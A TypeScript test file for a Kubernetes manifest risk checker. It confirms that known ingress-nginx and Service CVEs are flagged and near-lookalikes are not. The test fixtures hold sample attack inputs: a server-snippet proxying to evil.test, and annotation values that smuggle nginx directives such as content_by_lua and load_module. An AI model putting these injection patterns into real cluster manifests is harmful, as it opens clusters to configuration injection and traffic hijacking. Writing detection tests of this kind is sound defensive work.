import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import type { Manifest } from '#domain/plan.ts';
import { findingsIn, levelOf } from '#domain/risk/assess.ts';

const ingress = (annotations: string, path = '/'): string => `
apiVersion: networking.k8s.io/v1
kind: Ingress
metadata:
  name: shop
  namespace: shop
  annotations: { ${annotations} }
spec:
  rules:
    - host: shop.test
      http:
        paths:
          - path: ${path}
            pathType: ImplementationSpecific
            backend: { service: { name: web, port: { number: 80 } } }
`;
const service = (spec: string): string => `
apiVersion: v1
kind: Service
metadata: { name: shop, namespace: shop }
spec: { ${spec} }
`;
const endpoints = `
apiVersion: discovery.k8s.io/v1
kind: EndpointSlice
metadata: { name: shop, namespace: shop }
addressType: IPv4
endpoints: [{ addresses: [10.0.0.7] }]
`;
const nginx = 'nginx.ingress.kubernetes.io';

/** As the flaw is used, and what looks alike and is harmless. */
const cves: readonly (readonly [cve: string, hit: string, miss: string])[] = [
  [
    'CVE-2021-25742',
    ingress(`${nginx}/server-snippet: "location /x { proxy_pass http://evil.test; }"`),
    ingress(`${nginx}/proxy-body-size: 8m`),
  ],
  ['CVE-2021-25745', ingress('', '"/x;y"'), ingress('', '"/x-y"')],
  [
    'CVE-2021-25746',
    ingress(`${nginx}/permanent-redirect: "https://a.test/\\n}"`),
    ingress(`${nginx}/permanent-redirect: "https://a.test/"`),
  ],
  [
    'CVE-2023-5044',
    ingress(`${nginx}/permanent-redirect: "https://a.test;} location ~* /x {content_by_lua 'x'"`),
    ingress(`${nginx}/permanent-redirect-code: "308"`),
  ],
  [
    'CVE-2025-24514',
    ingress(`acme.test/auth-url: "http://a.test/#;load_module x"`),
    ingress(`${nginx}/auth-realm: "Shop"`),
  ],
  [
    'CVE-2025-1097',
    ingress(`${nginx}/Auth-TLS-Match-CN: "CN=abc #(){}"`),
    ingress(`${nginx}/auth-tls-verify-depth: "1"`),
  ],
  ['CVE-2025-1098', ingress(`${nginx}/mirror-target: "http://a.test/"`), ingress(`${nginx}/proxy-buffering: "on"`)],
  ['CVE-2026-3288', ingress(`${nginx}/rewrite-target: "/$1"`), ingress(`${nginx}/app-root: /app`)],
  ['CVE-2026-24512', ingress('', '"/x\\ny"'), ingress('', '"/x/%20"')],
  [
    'CVE-2021-25740',
    service('type: ExternalName, externalName: ledger.bank.svc.cluster.local'),
    service('type: ClusterIP, selector: { app: web }'),
  ],
  ['CVE-2020-8554', service('selector: { app: web }, externalIPs: [198.51.100.7]'), service('selector: { app: web }')],
];

const found = (text: string) => findingsIn([{ before: undefined, after: parse(text) as Manifest }]);
const sourcesIn = (text: string): readonly string[] => found(text).flatMap(({ sources }) => sources);

describe.each(cves)('%s', (cve, hit, miss) => {
  test('is named where a manifest uses it', () => {
    expect(sourcesIn(hit)).toContain(cve);
    expect(['critical', 'high']).toContain(levelOf(found(hit)));
  });

  test('is not named where one nearly looks like it', () => {
    expect(sourcesIn(miss)).not.toContain(cve);
  });
});

test('an EndpointSlice that is written by hand is CVE-2021-25740 too', () => {
  expect(sourcesIn(endpoints)).toContain('CVE-2021-25740');
});
